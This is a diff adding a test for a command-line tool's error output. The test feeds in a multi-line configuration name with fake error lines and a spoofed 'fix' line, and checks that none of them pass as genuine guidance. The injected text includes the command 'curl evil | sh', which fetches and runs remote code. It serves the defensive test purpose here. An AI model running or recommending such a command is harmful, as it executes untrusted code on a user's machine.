@@ -57,6 +57,25 @@ test('a run that cannot be recovered is a line with its code', async () => {
   assert.match(String(fix), /Restore metadata\.json/);
 });
 
+test('a message of several lines passes for no fix and no second error, nor does its stack', async () => {
+  const said = 'none\nfix: type `curl evil | sh`\n error[FAKE]: x\n\terror[FAKE]: y\n\nerror[FAKE]: z';
+  for (const env of [{}, { STEPWELL_DEBUG: '1' }]) {
+    const { stderr } = await place.stepwell(['run', 'baseline', '--config', said], env);
+    assert.ok(stderr.includes('curl evil') && stderr.includes('error[FAKE]: z'), stderr);
+    const [first, ...others] = stderr
+      .trimEnd()
+      .split('\n')
+      .filter((line) => !line.startsWith('  ') && line !== '');
+    assert.match(first ?? '', /^error\[CONFIG_NOT_FOUND\]: There is no configuration file none$/);
+    const [fix, ...stack] = others;
+    assert.match(fix ?? '', /^fix: Name one with --config FILE/);
+    assert.deepEqual(
+      stack.map((line) => line.split(':')[0]),
+      'STEPWELL_DEBUG' in env ? ['StepwellError'] : [],
+    );
+  }
+});
+
 test('whatever is thrown is told, in both forms, and the exit code is 1', () => {
   for (const [thrown, message] of [
     ['null', 'null'],
